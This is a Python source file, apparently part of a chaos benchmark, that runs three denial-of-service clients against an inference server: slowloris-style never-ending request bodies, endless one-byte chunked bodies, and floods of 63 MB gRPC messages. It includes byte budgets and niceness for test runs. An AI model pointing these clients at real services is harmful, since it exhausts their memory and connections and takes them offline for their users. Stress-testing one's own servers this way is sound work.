"""Clients that mean harm, each kind in a process of its own. What they did is JSON on standard output.

They would be elsewhere, and take no processor from the server's workers. Here they share its cores, so they do what
they do as cheaply as they can, and step back behind the server: what they send is counted, and is the same.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import resource
import time
from dataclasses import asdict, dataclass

import uvloop

from benchmarks.chaos.http2 import Call

INFER = "/v2/models/fashion/infer"
BODY_BYTES = 900_000  # that a slow client promises
PIECE_BYTES = 16_384
PAUSE_S = 0.1  # between two pieces of a slow body
OPENING = 200  # connections at a time
CHUNKS = b"1\r\n0\r\n" * 4096
MESSAGE_BYTES = 63_000_000
NICENESS = 10
GRPC_INFER = "/inference.GRPCInferenceService/ModelInfer"


@dataclass
class Done:
    """What came of it. `answered` counts refusals and closed connections too: the server had enough of them."""

    most_open: int = 0
    sent_bytes: int = 0
    answered: int = 0
    failed: int = 0  # to connect


class Slow:
    """Bodies that never end: as much of them as the server takes, then a piece now and then.

    `total_bytes` is where we stop, so that a server without a budget does not take the machine with it.
    """

    def __init__(self, host: str, port: int, connections: int, total_bytes: int, end_s: float) -> None:
        self._address = host, port
        self._connections = connections
        self._total_bytes = total_bytes
        self._end_s = end_s
        self._opening = asyncio.Semaphore(OPENING)
        self._open = 0
        self.done = Done()

    async def run(self) -> Done:
        await asyncio.gather(*(self._one(number) for number in range(self._connections)))
        return self.done

    async def _one(self, number: int) -> None:
        while time.monotonic() < self._end_s:
            try:
                async with self._opening, asyncio.timeout(self._end_s - time.monotonic()):
                    reader, writer = await asyncio.open_connection(*self._address, limit=2**16)
            except (OSError, TimeoutError):
                self.done.failed += 1
                await asyncio.sleep(1.0)
                continue
            self._open += 1
            self.done.most_open = max(self.done.most_open, self._open)
            try:
                await self._send(reader, writer, number)
            except OSError:
                self.done.answered += 1
            finally:
                self._open -= 1
                writer.transport.abort()
            await asyncio.sleep(1.0)

    async def _send(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, number: int) -> None:
        """Every second one has a head of its own, so that the server cannot know it."""
        own = f"X-Number: {number}\r\n" if number % 2 else ""
        head = f"POST {INFER} HTTP/1.1\r\nHost: x\r\n{own}Content-Length: {BODY_BYTES}\r\n\r\n"
        writer.write(head.encode())
        answer = asyncio.create_task(reader.read(4096))
        left = BODY_BYTES - 1  # the last byte never comes
        try:
            while time.monotonic() < self._end_s and not answer.done():
                piece = min(PIECE_BYTES, left, self._total_bytes - self.done.sent_bytes)
                if piece <= 0:  # there is nothing more to send: we cost the server its memory, and the machine nothing
                    await asyncio.wait({answer}, timeout=self._end_s - time.monotonic())
                    break
                if writer.transport.get_write_buffer_size() == 0:
                    writer.write(bytes(piece))
                    self.done.sent_bytes += piece
                    left -= piece
                await asyncio.sleep(PAUSE_S)
            if answer.done():
                self.done.answered += 1
        finally:
            answer.cancel()
            await asyncio.gather(answer, return_exceptions=True)


async def one_byte_chunks(host: str, port: int, attackers: int, end_s: float) -> Done:
    """Endless bodies of chunks of one byte, as fast as the server takes them."""
    done = Done(most_open=attackers)

    async def attack() -> None:
        while time.monotonic() < end_s:
            try:
                reader, writer = await asyncio.open_connection(host, port)
            except OSError:
                done.failed += 1
                await asyncio.sleep(0.2)
                continue
            try:
                writer.write(f"POST {INFER} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n".encode())
                answer = asyncio.create_task(reader.read(4096))
                while time.monotonic() < end_s and not answer.done():
                    writer.write(CHUNKS)
                    done.sent_bytes += len(CHUNKS)
                    async with asyncio.timeout(max(0.0, end_s - time.monotonic())):
                        await writer.drain()
                    await asyncio.sleep(0)
            except (OSError, TimeoutError):
                pass
            finally:
                done.answered += answer.done()
                answer.cancel()
                await asyncio.gather(answer, return_exceptions=True)
                writer.transport.abort()

    await asyncio.gather(*(attack() for _ in range(attackers)))
    return done


async def large_messages(host: str, port: int, count: int, end_s: float) -> Done:
    """So many gRPC messages of 63 MB at once, for an application that takes no such thing."""
    name = b"fashion"
    raw = MESSAGE_BYTES - 32
    head = b"\x0a" + bytes((len(name),)) + name + b"\x3a" + _varint(raw)
    message = memoryview(head + bytes(raw))
    patience_s = max(1.0, end_s - time.monotonic())
    calls = [Call(host, port, GRPC_INFER, message) for _ in range(count)]
    ended = await asyncio.gather(*(call.run(patience_s) for call in calls))
    return Done(count, sum(call.sent for call in calls), sum(ended), count - sum(ended))


def _varint(number: int) -> bytes:
    out = b""
    while number > 0x7F:
        out += bytes((number & 0x7F | 0x80,))
        number >>= 7
    return out + bytes((number,))


async def attack(what: str, host: str, port: int, count: int, seconds: float, total_bytes: int) -> Done:
    end_s = time.monotonic() + seconds
    if what == "slow_bodies":
        return await Slow(host, port, count, total_bytes, end_s).run()
    if what == "one_byte_chunks":
        return await one_byte_chunks(host, port, count, end_s)
    return await large_messages(host, port, count, end_s)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("what", choices=("slow_bodies", "one_byte_chunks", "large_messages"))
    parser.add_argument("address")
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--total-bytes", type=int, default=1_000_000_000)
    arguments = parser.parse_args()
    os.nice(NICENESS)
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    count = arguments.count if arguments.what != "slow_bodies" else min(arguments.count, hard - 100)
    host, _, port = arguments.address.rpartition(":")
    with asyncio.Runner(loop_factory=uvloop.new_event_loop) as runner:
        done = runner.run(attack(arguments.what, host, int(port), count, arguments.seconds, arguments.total_bytes))
    print(json.dumps(asdict(done)))


if __name__ == "__main__":
    main()
